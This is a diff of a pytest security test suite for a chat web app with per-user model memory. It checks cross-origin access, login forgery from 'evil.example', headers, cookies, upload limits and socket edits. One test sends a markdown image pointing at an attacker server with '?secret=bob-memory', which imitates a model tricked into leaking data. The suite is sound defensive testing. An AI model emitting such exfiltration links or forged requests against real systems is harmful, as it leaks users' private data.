@@ -6,17 +6,27 @@ any origin with credentials, its socket checked no ``Origin``, and it sent no se
 
 from __future__ import annotations
 
+import asyncio
+import concurrent.futures
+import json
+import socket
+import stat
 import threading
+import time
 import urllib.error
 import urllib.parse
 import urllib.request
+import uuid
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from test_web import PASSWORDS, Web, browser, open_chat, page, send, stored_items, wait_for_text, web  # noqa: F401
+from conftest import Memchat
+from memchat.web import auth_secret
+from web_page import PASSWORDS, Web, open_chat, send, stored_items, wait_for_text
 
 
 class Attacker:
@@ -62,7 +72,7 @@ def post_login(web: Web, user: str, password: str, **headers: str) -> tuple[int,
         return exc.code, {name.lower(): value for name, value in exc.headers.items()}
 
 
-def test_another_origin_cannot_read_or_write_a_logged_in_users_memory(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
+def test_another_origin_cannot_read_or_write_a_logged_in_users_memory(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]
     open_chat(page, web, "alice")
     before = stored_items(web.db, "alice")
     page.goto(attacker.url)  # the same browser, alice's cookies in it
@@ -86,7 +96,7 @@ def test_another_origin_cannot_read_or_write_a_logged_in_users_memory(page, web:
     assert stored_items(web.db, "alice") == before
 
 
-def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:  # noqa: F811
+def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:
     # Login forgery: the victim would then chat into the attacker's memory.
     status, _ = post_login(web, "alice", PASSWORDS["alice"], Origin="http://evil.example")
     assert status == 403
@@ -96,7 +106,7 @@ def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:  # noqa:
     assert status == 200
 
 
-def test_every_answer_carries_the_security_headers(web: Web) -> None:  # noqa: F811
+def test_every_answer_carries_the_security_headers(web: Web) -> None:
     for path in ("/", "/login", "/project/settings?language=en-US"):
         try:
             with urllib.request.urlopen(web.url + path, timeout=20) as answer:
@@ -110,17 +120,108 @@ def test_every_answer_carries_the_security_headers(web: Web) -> None:  # noqa: F
         assert headers["referrer-policy"] == "same-origin"
 
 
-def test_cookies_are_secure_behind_a_proxy_that_says_https(web: Web) -> None:  # noqa: F811
+def test_cookies_are_secure_behind_a_proxy_that_says_https(web: Web) -> None:
     _, plain = post_login(web, "alice", PASSWORDS["alice"])
     assert "secure" not in plain["set-cookie"].lower()  # plain http on this machine: a Secure cookie would be lost
     _, proxied = post_login(web, "alice", PASSWORDS["alice"], **{"X-Forwarded-Proto": "https"})
     assert "; secure" in proxied["set-cookie"].lower()
 
 
-def test_an_image_in_a_message_or_reply_loads_nothing_from_another_host(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
+def test_an_image_in_a_message_or_reply_loads_nothing_from_another_host(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]
     open_chat(page, web, "bob")
     # The model repeats it ("You said: ..."), so it is in a reply too, as a model tricked into leaking would write it.
     send(page, f"look ![pixel]({attacker.url}/leak.png?secret=bob-memory)")
     wait_for_text(page, "You said: look")
     page.wait_for_timeout(1000)
     assert not any(path.startswith("/leak.png") for path in attacker.requests)
+
+
+@pytest.mark.parametrize("port", ["80999", "-1", "eighty"])
+def test_a_port_that_is_not_one_is_one_line_and_exit_2(memchat: Memchat, port: str) -> None:
+    run = memchat("web", "--port", port)
+    assert run.returncode == 2
+    assert (
+        run.stderr
+        == f"error: argument --port: {port!r} is not a port: use a number from 1 to 65535, such as 8000: see memchat web --help\n"
+    )
+
+
+@pytest.mark.parametrize("host", ["10.255.255.1", "a..b"])
+def test_a_host_that_is_not_this_machines_is_one_line_naming_host(memchat: Memchat, host: str) -> None:
+    run = memchat("web", "--host", host, "--port", "8765")
+    assert run.returncode == 2
+    assert run.stderr.startswith("error: ") and "pass --host an address of this machine" in run.stderr
+    assert "--port" not in run.stderr and len(run.stderr.splitlines()) == 1
+
+
+def test_an_empty_login_secret_file_is_written_again(tmp_path: Path) -> None:
+    # A start on a full disk left it empty; every correct login was then a bare 500.
+    secret = tmp_path / "auth_secret"
+    secret.touch(mode=0o600)
+    made = auth_secret(secret)
+    assert len(made) >= 32 and secret.read_text() == made
+    assert stat.S_IMODE(secret.stat().st_mode) == 0o600
+    assert auth_secret(secret) == made  # kept from then on
+
+
+def access_cookie(web: Web, user: str) -> str:
+    """A logged-in session's cookie, as the page gets it."""
+    _, headers = post_login(web, user, PASSWORDS[user], Origin=web.url)
+    return headers["set-cookie"].split(";", 1)[0]
+
+
+def test_an_upload_is_refused_before_its_body_is_read(web: Web) -> None:
+    # Before, a 400 MB upload was read into memory before being refused. Here the body is never
+    # sent at all: the answer must come from the headers alone.
+    host, port = web.url.removeprefix("http://").split(":")
+    head = (
+        f"POST /project/file?session_id=anything HTTP/1.1\r\nHost: {host}:{port}\r\n"
+        f"Cookie: {access_cookie(web, 'alice')}\r\nContent-Type: multipart/form-data; boundary=zz\r\n"
+        f"Content-Length: {400 * 1024 * 1024}\r\n\r\n"
+    )
+    with socket.create_connection((host, int(port)), timeout=20) as conn:
+        conn.sendall(head.encode())
+        answer = ""
+        while "takes no files" not in answer and (piece := conn.recv(65536).decode()):
+            answer += piece
+    assert answer.startswith("HTTP/1.1 403"), answer[:200]
+    assert '"this page takes no files"' in answer
+
+
+def test_an_edit_sent_over_the_socket_changes_nothing(web: Web) -> None:
+    # Editing is off on the page; before, a crafted socket event reran the turn while the store kept the old one.
+    import socketio
+
+    async def session() -> None:
+        client = socketio.AsyncClient()
+        await client.connect(
+            web.url,
+            socketio_path="/ws/socket.io",
+            headers={"Cookie": access_cookie(web, "bob"), "Origin": web.url},
+            auth={"sessionId": str(uuid.uuid4()), "clientType": "webapp"},
+            transports=["websocket"],
+            wait_timeout=20,
+        )
+        await client.emit("connection_successful")
+        message = {
+            "id": str(uuid.uuid4()),
+            "threadId": "",
+            "type": "user_message",
+            "name": "bob",
+            "output": "the kettle is blue",
+            "createdAt": "2026-11-22T00:00:00Z",
+        }
+        await client.emit("client_message", {"message": message, "fileReferences": None})
+        deadline = time.monotonic() + 20
+        while not any("the kettle is blue" in json.dumps(item) for item in stored_items(web.db, "bob")):
+            assert time.monotonic() < deadline, "the message was not answered"
+            await asyncio.sleep(0.1)
+        before = stored_items(web.db, "bob")
+        await client.emit("edit_message", {"message": {**message, "output": "the kettle is red"}})
+        await asyncio.sleep(3)
+        assert stored_items(web.db, "bob") == before
+        await client.disconnect()
+
+    # In a thread of its own: Playwright's sync API keeps an event loop running in this one.
+    with concurrent.futures.ThreadPoolExecutor(1) as pool:
+        pool.submit(asyncio.run, session()).result()
